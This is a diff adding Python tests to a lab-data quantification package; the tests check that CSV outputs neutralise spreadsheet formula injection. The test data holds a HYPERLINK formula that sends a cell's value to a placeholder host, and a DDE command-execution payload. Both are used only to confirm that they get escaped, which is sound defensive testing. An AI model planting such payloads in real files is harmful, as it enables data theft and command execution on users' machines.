@@ -307,3 +307,45 @@ def test_output_folder_is_readable_by_others_under_the_umask(sample_batch, tmp_p
         os.umask(old)
     assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o755  # was 0700
     assert stat.S_IMODE((tmp_path / "out2").stat().st_mode) == 0o750
+
+
+def test_formula_cells_are_neutralised_in_every_csv_output(sample_batch, tmp_path):
+    # was: sample_id =HYPERLINK(...) kept as is in results.csv and interpretation.csv
+    from thioquant.csvcell import safe_cell
+
+    assert safe_cell("-1.5") == "-1.5" and safe_cell("+2") == "+2" and safe_cell("-inf") == "-inf"
+    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert safe_cell("\tx") == "'\tx" and safe_cell("-x") == "'-x" and safe_cell("P002") == "P002"
+    b = sample_batch("lcmsms")
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"P002")'
+    text = (b / "worklist.csv").read_text()
+    (b / "worklist.csv").write_text(text.replace(",P002,", f',"{evil.replace(chr(34), chr(34) * 2)}",')
+                                    .replace(",P003,", ",@P003,").replace(",P004,", ",+P004,"))
+    main(["quantify", str(b), "--no-history", "--no-report", "--no-pdf", "--no-cache", "--quiet",
+          "--out", str(tmp_path / "out")])
+    out = tmp_path / "out"
+    seen = 0
+    for name in ("results.csv", "interpretation.csv", "qc.csv"):
+        with open(out / name, newline="") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                        float(cell)  # only numbers may start so
+                seen += sum(c == "'" + evil for c in row)
+    assert seen == 3  # results (2 analytes) and interpretation keep the text, apostrophe first
+    with open(out / "results.csv", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert {r["sample_id"] for r in rows} >= {"'" + evil, "'@P003", "'+P004"}
+    assert any(r["conc"].startswith("-") or r["response"] for r in rows)  # numbers left as written
+    for line in (out / "messages.txt").read_text().splitlines():
+        assert not line.startswith(("=", "+", "@", "\t", "\r")), line
+
+
+def test_write_interpretation_csv_neutralises_formulas(tmp_path):
+    from thioquant.assay.interpret import INTERPRETATION_COLUMNS, write_interpretation_csv
+
+    row = dict.fromkeys(INTERPRETATION_COLUMNS, "")
+    row[INTERPRETATION_COLUMNS[0]] = "=cmd|' /C calc'!A0"
+    p = write_interpretation_csv([row], tmp_path / "i.csv")
+    with open(p, newline="") as fh:
+        assert next(iter(csv.DictReader(fh)))[INTERPRETATION_COLUMNS[0]] == "'=cmd|' /C calc'!A0"
